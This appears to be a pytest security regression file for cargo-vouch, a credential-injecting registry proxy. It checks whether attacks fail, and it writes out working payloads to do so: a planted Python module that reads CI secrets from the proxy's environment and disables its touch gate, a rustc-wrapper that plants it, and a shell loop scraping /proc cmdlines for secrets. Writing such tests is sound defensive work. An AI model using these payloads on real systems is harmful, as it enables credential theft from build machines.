"""Review 13: attacks on b20bf8c..b5e1c29 (run starts CMD before mitmproxy is loaded, the
in-process ProxyCredential, HookDispatch, the sock_diag owner lookup, review 12's fixes).

Every test not named `test_held_*` FAILS while its attack works (see /work/notes/review13.md);
the `test_held_*` tests PASS (attacks that did not work). Some findings have a `control`
case next to them, which passes."""

from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from tests.fixtures.paths import REPO

pytestmark = pytest.mark.e2e

VENV_PYTHON = Path(sys.executable)


def _user_install(tmp_path: Path) -> Path:
    """`cargo-vouch` as `pip install --user` (~/.local/bin) or a user-owned venv/pipx puts it:
    a console script in a directory of the user's own. Python puts that directory first on
    sys.path."""
    bin_dir = tmp_path / "home" / ".local" / "bin"
    bin_dir.mkdir(parents=True)
    script = bin_dir / "cargo-vouch"
    script.write_text(
        f"#!{VENV_PYTHON}\nimport sys\nfrom cargo_vouch.cli.main import main\n"
        "if __name__ == '__main__':\n    sys.exit(main())\n"
    )
    script.chmod(0o755)
    return bin_dir


def _ci_env(tmp_path: Path, bin_dir: Path, secret: str, token: str) -> dict[str, str]:
    home = tmp_path / "home"
    config = tmp_path / "cargo-vouch.toml"
    config.write_text(
        '[registries.corp]\nindex = "sparse+https://localhost:1/corp/"\n'
        '[registries.corp.client-credentials]\nissuer = "https://localhost:1"\nclient-id = "ci"\n'
        'client-secret-env = "VOUCH_CLIENT_SECRET"\n\n'
        '[registries.team]\nindex = "sparse+https://localhost:1/team/"\ncredential-provider = "cargo:token"\n'
    )
    return {
        "PATH": f"{bin_dir}:/usr/bin:/bin",
        "HOME": str(home),
        "XDG_CONFIG_HOME": str(home / ".config"),
        "CARGO_VOUCH_HOME": str(home / "cargo-vouch"),
        "CARGO_HOME": str(home / ".cargo"),
        "CARGO_VOUCH_CONFIG": str(config),
        "LANG": "C.UTF-8",
        "PYTHONPATH": str(REPO),
        "VOUCH_CLIENT_SECRET": secret,
        "CARGO_REGISTRIES_TEAM_TOKEN": token,
    }


#: What CMD drops next to the console script: a module the proxy imports only after CMD has
#: started (mitmproxy's dependencies: h11, h2, jwt, …). It runs inside the proxy process,
#: takes what it wants and hands over the real module, so the proxy works on.
SHADOW = textwrap.dedent('''\
    import importlib, os, sys
    with open(os.environ["HOME"] + "/loot.txt", "w") as loot:
        loot.write("pid=%d VOUCH_CLIENT_SECRET=%s CARGO_REGISTRIES_TEAM_TOKEN=%s\\n" % (
            os.getpid(), os.environ.get("VOUCH_CLIENT_SECRET"), os.environ.get("CARGO_REGISTRIES_TEAM_TOKEN")))
    here = os.path.dirname(os.path.abspath(__file__))
    sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != here]
    del sys.modules[__name__]
    sys.modules[__name__] = importlib.import_module(__name__)
''')


@pytest.mark.parametrize("module", ["jwt", "h2"])
def test_cmd_cannot_run_code_in_the_proxy_by_planting_a_module_it_imports_after_cmd_starts(tmp_path: Path, module: str) -> None:
    """run starts CMD, then imports mitmproxy (and through it h11, h2, aioquic, jwt, ...):
    130-160 ms of imports during which CMD (same uid) can put a module of that name in the
    first sys.path entry, the console script's directory (~/.local/bin for `pip install
    --user`, the venv's bin for a user-owned venv or pipx). The proxy process then runs CMD's
    code with the CI client secret and the real registry token in its os.environ."""
    bin_dir = _user_install(tmp_path)
    secret = "ci-client-secret-" + secrets.token_hex(8)
    token = "real-team-token-" + secrets.token_hex(8)
    env = _ci_env(tmp_path, bin_dir, secret, token)
    (tmp_path / "shadow.py").write_text(SHADOW)
    loot = tmp_path / "home" / "loot.txt"
    # CMD: plant the module, then wait (bounded) for the proxy to have imported it.
    cmd = (f'cp {tmp_path / "shadow.py"} {bin_dir / (module + ".py")}; '
           f'for i in $(seq 100); do [ -s {loot} ] && break; /usr/bin/python3 -c "import time; time.sleep(0.05)"; done; '
           f'echo CMD-SAW: $(cat {loot} 2>/dev/null); env | grep -c {secret} || true')

    result = subprocess.run([str(bin_dir / "cargo-vouch"), "run", "--", "/bin/sh", "-c", cmd],
                            env=env, cwd=tmp_path, capture_output=True, text=True, timeout=120)

    assert "CMD-SAW" in result.stdout, (result.stdout, result.stderr[-2000:])
    assert secret not in result.stdout and token not in result.stdout, (
        f"CMD ran code inside the proxy (shadowing {module!r}) and read: {result.stdout.strip()}")


def test_a_project_s_rustc_wrapper_wins_the_same_race_under_plain_cargo(tmp_path: Path) -> None:
    """The same with CMD = `cargo metadata` as CI runs it: the project's own
    .cargo/config.toml names a rustc-wrapper, which Cargo runs for `rustc -vV` within
    milliseconds of starting, before it connects anywhere (no registry request needed)."""
    from tests.e2e.conftest import current_cargo

    toolchain = current_cargo()
    if toolchain is None:
        pytest.skip("no current Cargo")
    cargo, rustc = toolchain
    bin_dir = _user_install(tmp_path)
    secret = "ci-client-secret-" + secrets.token_hex(8)
    token = "real-team-token-" + secrets.token_hex(8)
    env = {**_ci_env(tmp_path, bin_dir, secret, token), "RUSTC": rustc, "RUSTUP_HOME": os.environ.get("RUSTUP_HOME", str(Path.home() / ".rustup"))}
    project = tmp_path / "app"
    (project / "src").mkdir(parents=True)
    (project / "Cargo.toml").write_text('[package]\nname = "app"\nversion = "0.1.0"\nedition = "2021"\n')
    (project / "src" / "main.rs").write_text("fn main() {}\n")
    (project / ".cargo").mkdir()
    (project / ".cargo" / "config.toml").write_text('[build]\nrustc-wrapper = "tools/wrap.sh"\n')
    (project / "tools").mkdir()
    (project / "tools" / "shadow.py").write_text(SHADOW)
    wrap = project / "tools" / "wrap.sh"
    wrap.write_text(f'#!/bin/sh\ncp "$(dirname "$0")/shadow.py" {bin_dir}/jwt.py 2>/dev/null\nexec "$@"\n')
    wrap.chmod(0o755)
    loot = tmp_path / "home" / "loot.txt"

    result = subprocess.run([str(bin_dir / "cargo-vouch"), "run", "--", cargo, "metadata", "--offline", "--format-version=1"],
                            env=env, cwd=project, capture_output=True, text=True, timeout=300)

    assert result.returncode == 0, result.stderr[-2000:]
    leaked = loot.read_text() if loot.exists() else ""
    assert secret not in leaked and token not in leaked, f"the project's rustc-wrapper ran code in the proxy: {leaked}"


#: Planted as `fido2.py`: python-fido2 is imported only at the first write when touch = true
#: (inject.py `_touched`), i.e. whenever the build chooses. It waves every write through.
TOUCH_SHADOW = SHADOW + textwrap.dedent('''\
    from cargo_vouch.proxy import write_gate
    async def _confirm(self, registry, intent):
        return None
    write_gate.WriteGate.confirm = _confirm
''')


@pytest.mark.parametrize("plant", [True, False], ids=["planted", "control"])
def test_a_build_script_cannot_plant_code_the_proxy_loads_at_the_first_write_and_skip_touch(world, tmp_path: Path, plant: bool) -> None:  # type: ignore[no-untyped-def]
    """At any time, not only at start-up: with touch = true, the proxy imports python-fido2
    on the first write. A build script (same uid, with CARGO_HTTP_PROXY) plants `fido2.py`
    in the console script's directory, then sends a yank through the proxy: the proxy runs
    the planted code, which reads the proxy's environment and replaces the touch gate, and
    the yank reaches the registry with the token, no key touched."""
    world.login()
    world.write_config(f'[registries.corp]\nindex = "{world.registry.sparse_index_url}"\n'
                       'allow-publish = true\ntouch = true\ntouch-timeout = 3\n')
    bin_dir = _user_install(tmp_path)
    (tmp_path / "fido2_shadow.py").write_text(TOUCH_SHADOW)
    api = world.registry.api_url.rstrip("/")
    build_rs = textwrap.dedent(f'''\
        set -e
        {"cp" if plant else "true"} {tmp_path / "fido2_shadow.py"} {bin_dir / "fido2.py"}
        curl -s -o /dev/null -w 'yank: %{{http_code}}\\n' --cacert "$CARGO_HTTP_CAINFO" -x "$CARGO_HTTP_PROXY" \\
            -X DELETE -H 'Authorization: cargo-vouch' {api}/api/v1/crates/hello/0.1.0/yank
    ''')
    env = {**world.env, "PATH": f"{bin_dir}:{world.env['PATH']}", "PYTHONPATH": str(REPO),
           "HOME": str(tmp_path / "home")}

    result = subprocess.run([str(bin_dir / "cargo-vouch"), "run", "--", "/bin/sh", "-c", build_rs],
                            env=env, cwd=tmp_path, capture_output=True, text=True, timeout=120)

    print(result.stdout, result.stderr[-3000:])
    writes = [(r.method, r.path, r.authenticated) for r in world.registry.requests if r.method == "DELETE"]
    loot = tmp_path / "home" / "loot.txt"
    assert not writes, f"a yank reached the registry with no touch: {writes}; {result.stdout.strip()}"
    assert not loot.exists(), loot.read_text()


CREDENTIAL_PROBE = textwrap.dedent('''\
    import base64, os, socket, ssl, sys
    from urllib.parse import urlsplit
    proxy = urlsplit(os.environ["CARGO_HTTP_PROXY"])
    user, password = proxy.username, proxy.password
    reg_host, reg_port = sys.argv[1], int(sys.argv[2])
    good = base64.b64encode(f"{user}:{password}".encode()).decode()
    def b64(s): return base64.b64encode(s.encode()).decode()
    def answer(f):
        line = f.readline()
        if not line.startswith(b"HTTP/"):
            return repr(line[:20])
        length = 0
        while (h := f.readline()) not in (b"\\r\\n", b""):
            if h.lower().startswith(b"content-length:"):
                length = int(h.split(b":")[1])
        f.read(length)
        return line.split(b" ", 2)[1].decode()
    def ask(raw, then=None):
        s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
        f = s.makefile("rb")
        s.sendall(raw)
        status = answer(f)
        if then is not None:
            try:
                s.sendall(then)
                status += "+" + answer(f)
            except OSError as exc:
                status += "+" + type(exc).__name__
        s.close()
        return status
    target = f"localhost:{reg_port}"
    def connect(auth_lines):
        return (f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n" + "".join(f"{l}\\r\\n" for l in auth_lines) + "\\r\\n").encode()
    cases = {
        "none": connect([]),
        "wrong-password": connect([f"Proxy-Authorization: Basic {b64(user + ':x' + password)}"]),
        "prefix-of-password": connect([f"Proxy-Authorization: Basic {b64(user + ':' + password[:-1])}"]),
        "no-user": connect([f"Proxy-Authorization: Basic {b64(':' + password)}"]),
        "bearer": connect([f"Proxy-Authorization: Bearer {good}"]),
        "garbled-b64": connect([f"Proxy-Authorization: Basic {good}!!"]),
        "unpadded": connect([f"Proxy-Authorization: Basic {good.rstrip('=')}x"]),
        "wrong-then-right-header": connect([f"Proxy-Authorization: Basic {b64('a:b')}", f"Proxy-Authorization: Basic {good}"]),
        "in-authorization": connect([f"Authorization: Basic {good}"]),
        "non-ascii": connect([f"Proxy-Authorization: Basic \\u00e9{good}"]),
        "absolute-form-https": f"GET https://{target}/sparse/config.json HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode(),
        "absolute-form-http": f"GET http://{target}/sparse/config.json HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode(),
        "h2-prior-knowledge": b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n",
        "websocket-upgrade": f"GET http://{target}/ HTTP/1.1\\r\\nHost: {target}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n".encode(),
    }
    for name, raw in cases.items():
        print(name, ask(raw))
    # A refused CONNECT, then the same connection tries again without a credential, then a plain request.
    print("after-407-retry", ask(connect([]), then=connect([])))
    print("after-407-plain", ask(connect([]), then=f"GET http://{target}/sparse/config.json HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode()))
    print("good", ask(connect([f"Proxy-Authorization: Basic {good}"])))
    print("lowercase-scheme", ask(connect([f"proxy-authorization: basic {good}"])))
''')


def test_held_the_per_run_credential_is_checked_on_every_shape_of_request(world, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    world.login()
    world.write_config(f'[registries.corp]\nindex = "{world.registry.sparse_index_url}"\n')
    probe = tmp_path / "probe.py"
    probe.write_text(CREDENTIAL_PROBE)
    world.registry.clear_requests()

    result = subprocess.run([sys.executable, "-m", world.cli_module, "run", "--", sys.executable, str(probe),
                             "localhost", str(world.registry.port)],
                            env={**world.env, "PYTHONPATH": str(REPO)}, cwd=REPO, capture_output=True, text=True, timeout=120)

    answers = dict(line.split(" ", 1) for line in result.stdout.splitlines())
    print(result.stdout, result.stderr[-3000:])
    assert answers.pop("good") == "200" and answers.pop("lowercase-scheme") == "200", result.stdout + result.stderr[-2000:]
    assert all(part in ("407", "400", "b''") for a in answers.values() for part in a.split("+")), "\n".join(f"{k}: {v}" for k, v in answers.items())
    # Only the proxy's own reading of config.json at start-up reached the registry.
    assert [r.path for r in world.registry.requests] in ([], ["/sparse/config.json"])


OWNER_PROBE = textwrap.dedent('''\
    import socket, sys
    port, reg_port, port6 = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
    for name, family, address in (("v4", socket.AF_INET, "127.0.0.1"), ("v4-mapped", socket.AF_INET6, "::ffff:127.0.0.1"),
                                  ("v6", socket.AF_INET6, "::1")):
        try:
            s = socket.socket(family, socket.SOCK_STREAM)
            s.settimeout(10)
            s.connect((address, port6 if name == "v6" else port))
            s.sendall(f"CONNECT localhost:{reg_port} HTTP/1.1\\r\\nHost: localhost:{reg_port}\\r\\n\\r\\n".encode())
            print(name, repr(s.recv(12)))
        except OSError as exc:
            print(name, type(exc).__name__)
''')


def test_held_another_uid_is_refused_over_v4_v4_mapped_and_v6(world, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from tests.fixtures.other_user import other_user

    user = other_user()
    world.login()
    world.write_config(f'[registries.corp]\nindex = "{world.registry.sparse_index_url}"\n')
    world.start_proxy(cli=True)
    from tests.e2e.conftest import free_port
    port6 = free_port()
    six = subprocess.Popen([sys.executable, "-m", world.cli_module, "proxy", "--listen", f"[::1]:{port6}"], cwd=REPO,
                           env=world.env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    assert six.stdout is not None
    for line in six.stdout:
        if "proxy listening at" in line:
            break
    probe = Path("/var/tmp") / f"owner-probe-{os.getpid()}.py"
    probe.write_text(OWNER_PROBE)
    try:
        args = [str(world.proxy_port), str(world.registry.port), str(port6)]
        theirs = user.run(["/usr/bin/python3", str(probe), *args])
        ours = subprocess.run(["/usr/bin/python3", str(probe), *args], capture_output=True, text=True, timeout=60)
    finally:
        probe.unlink()
        six.terminate()
        six.wait(timeout=30)
    print(theirs.stdout, theirs.stderr, ours.stdout)
    assert ours.stdout.count("b'HTTP/1.1 200'") == 3, ours.stdout + ours.stderr
    assert "200" not in theirs.stdout and len(theirs.stdout.splitlines()) == 3, theirs.stdout + theirs.stderr


def test_run_s_exposed_secrets_check_also_looks_at_command_lines(tmp_path: Path) -> None:
    """Review 12's fix scans every readable /proc/*/environ for the secret's value. A CI step
    that writes the secret inline (`VOUCH_CLIENT_SECRET=… cargo vouch run -- …; next`, as
    `sh -c` from a job template or a Makefile recipe does) leaves it in the step shell's
    /proc/PID/cmdline, which the check does not read and CMD does (so may anyone on the machine)."""
    bin_dir = _user_install(tmp_path)
    secret = "ci-client-secret-" + secrets.token_hex(8)
    env = _ci_env(tmp_path, bin_dir, "unused", "unused")
    del env["VOUCH_CLIENT_SECRET"], env["CARGO_REGISTRIES_TEAM_TOKEN"]
    build = tmp_path / "build.sh"
    build.write_text("for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline 2>/dev/null; echo; done"
                     " | grep -o 'ci-client-secret-[0-9a-f]*' | sort -u\n")
    step = f"VOUCH_CLIENT_SECRET={secret} cargo-vouch run -- /bin/sh {build}; echo step-done"

    result = subprocess.run(["/bin/sh", "-c", step], env=env, cwd=tmp_path, capture_output=True, text=True, timeout=120)

    assert "step-done" in result.stdout, result.stderr[-2000:]
    assert secret not in result.stdout.replace("step-done", ""), (
        f"run started CMD, which read the CI secret from its parent's command line: {result.stdout!r}")


@pytest.mark.parametrize("inside_uid", [65534, 1234], ids=["as-nobody", "control-other-uid"])
def test_in_a_user_namespace_as_nobody_another_host_user_is_not_taken_for_the_owner(world, tmp_path: Path, inside_uid: int) -> None:  # type: ignore[no-untyped-def]
    """A proxy in a user namespace that shares the host's network (rootless podman
    `--network=host`, an image whose USER is nobody, `unshare --user`) and runs as uid
    65534 there. sock_diag and /proc/net/tcp report a socket whose owner has no mapping in
    the namespace as the overflow uid, 65534: every other user on the host then looks like
    the proxy's own uid, and LocalClients admits them."""
    from tests.fixtures.other_user import other_user

    user = other_user()
    world.login()
    world.write_config(f'[registries.corp]\nindex = "{world.registry.sparse_index_url}"\n')
    proxy = subprocess.Popen(["unshare", "--user", f"--map-user={inside_uid}", f"--map-group={inside_uid}", "--",
                              sys.executable, "-m", world.cli_module, "proxy"], cwd=REPO, env=world.env,
                             stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    ca = Path("/var/tmp") / f"review13-ca-{os.getpid()}.pem"
    try:
        assert proxy.stdout is not None
        lines = []
        for line in proxy.stdout:
            lines.append(line)
            if "proxy listening at" in line:
                break
        assert proxy.poll() is None, "".join(lines)
        shutil.copy(world.cainfo, ca)
        ca.chmod(0o644)
        before = len(world.registry.requests)
        theirs = user.run(["/usr/bin/curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--cacert", str(ca),
                           "-x", f"http://127.0.0.1:{world.proxy_port}",
                           f"https://localhost:{world.registry.port}/sparse/config.json"])
    finally:
        ca.unlink(missing_ok=True)
        proxy.terminate()
        proxy.wait(timeout=30)
    got = [(r.method, r.path, r.authenticated) for r in world.registry.requests[before:]]
    assert theirs.stdout != "200" and not got, f"uid {user.uid} used the proxy as its owner: {theirs.stdout} {got}"


def test_mitmdump_s_does_not_reload_a_script_a_build_rewrites(world, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """`mitmdump -s <addon-path>` re-reads its script whenever the file changes, and runs
    it: the script is a file of the user's own, so any build the proxy serves could append
    code that then runs inside the proxy (before this fix the reload only failed by accident,
    on TokenInjector's async `done`, leaving the proxy without its addons). Once the proxy
    runs, no script is reloaded (unit: test_sealed_imports.py shows the watcher cancelled)."""
    from tests.e2e import conftest

    script = tmp_path / "install" / "vouch_addon.py"
    script.parent.mkdir()
    shutil.copy(conftest.ADDON, script)
    monkeypatch.setattr(conftest, "ADDON", script)
    world.login()
    world.write_config(f'[registries.corp]\nindex = "{world.registry.sparse_index_url}"\n')
    proxy = world.start_proxy()
    proxy.wait_for(f"{script}: not reloaded when it changes (restart mitmdump to load a change)")


def test_run_does_not_pass_cmd_a_variable_that_embeds_the_secret(tmp_path: Path) -> None:
    """child_environment drops a variable whose value *equals* a secret (review 12's
    renamed-copy fix), and exposed_secrets looks for the value *inside* other processes'
    environments, but run's own environment is filtered by equality only: a variable that
    holds the secret among other text (a JSON blob of the job's secrets, `client:secret`, a
    URL with it as password) reaches CMD as is."""
    bin_dir = _user_install(tmp_path)
    secret = "ci-client-secret-" + secrets.token_hex(8)
    env = _ci_env(tmp_path, bin_dir, secret, "real-team-token-" + secrets.token_hex(8))
    env["CI_JOB_SECRETS"] = json.dumps({"vouch_client_secret": secret})
    env["VOUCH_BASIC"] = f"ci:{secret}"

    result = subprocess.run([str(bin_dir / "cargo-vouch"), "run", "--", "/usr/bin/env"],
                            env=env, cwd=tmp_path, capture_output=True, text=True, timeout=120)

    assert result.returncode == 0, result.stderr[-2000:]
    leaked = [line.split("=", 1)[0] for line in result.stdout.splitlines() if secret in line]
    assert not leaked, f"CMD's environment holds the CI secret in {leaked}"


@pytest.mark.parametrize("dl", [
    "https://\uff54\uff45\uff41\uff4d.corp.example/index/",   # fullwidth "team"
    "https://team\u3002corp.example/index/",                  # ideographic full stop between labels
])
def test_setup_s_overlap_check_sees_the_host_it_writes(dl: str) -> None:
    """68a4286: setup no longer adds a config.json `dl`/`api` that overlaps another
    registry's index. The check compares the host as config.json spells it; what setup then
    writes is its IDNA (ASCII) form. A host in fullwidth letters or with U+3002 dots passes
    the check and is written as the other registry's own host: `corp`'s token then goes
    with every request to `team`'s index (corp comes first in the config)."""
    from cargo_vouch.cli.index_hosts import uncovered
    from cargo_vouch.config import parse_config
    from cargo_vouch.proxy.routing import Router

    config = parse_config({"registries": {"corp": {"index": "sparse+https://cargo.corp.example/index/"},
                                          "team": {"index": "sparse+https://team.corp.example/index/"}}}, Path("/c.toml"))
    regs = config.registries
    found, problems = uncovered(regs["corp"], {"dl": dl}, regs.values())
    print(found, problems)
    if not found:
        return  # refused or nothing to add: held
    prefix = found[0].prefix
    # What the config then holds, and where `team`'s index requests go.
    after = parse_config({"registries": {"corp": {"index": "sparse+https://cargo.corp.example/index/", "prefixes": [prefix]},
                                         "team": {"index": "sparse+https://team.corp.example/index/"}}}, Path("/c.toml"))
    route = Router(list(after.registries.values())).match("https", "team.corp.example", 443, "/index/he/ll/hello", "GET")
    assert route is None or route.registry.name == "team", (
        f"setup wrote {prefix!r} for config.json dl {dl!r}: team's index requests now carry corp's token")


def test_setup_writes_no_prefix_over_another_registry_s_index_spelled_in_fullwidth(world) -> None:  # type: ignore[no-untyped-def]
    """The same through `cargo vouch setup`, end to end: the registry's config.json names
    `dl` on team's index in fullwidth letters; setup adds corp with team's own index as a
    prefix (the config loads). Which registry a request to team's index then goes to is
    decided by the order of the registries in the file (first match; see the test above)."""
    import json

    world.login()
    reg = world.registry
    reg.set_sparse_config_body(json.dumps({"dl": "https://\uff54\uff45\uff41\uff4d.corp.example/index/",
                                           "api": f"https://localhost:{reg.port}/web"}).encode())
    world.write_config('[registries.team]\nindex = "sparse+https://team.corp.example/index/"\n')
    project = world.project("app", [], reg.sparse_index_url)
    result = world.cargo_vouch("setup", "--registry", "corp", "--manifest-dir", str(project), check=False)
    written = world.config_path.read_text()
    corp_part = written.split("[registries.team]")[0] if written.index("[registries.corp]") < written.index("[registries.team]") else written.split("[registries.corp]")[1]
    assert "https://team.corp.example/index/" not in corp_part, (
        f"setup put team's index into corp's prefixes:\n{written}\n{result.stdout[-1500:]}{result.stderr[-1500:]}")
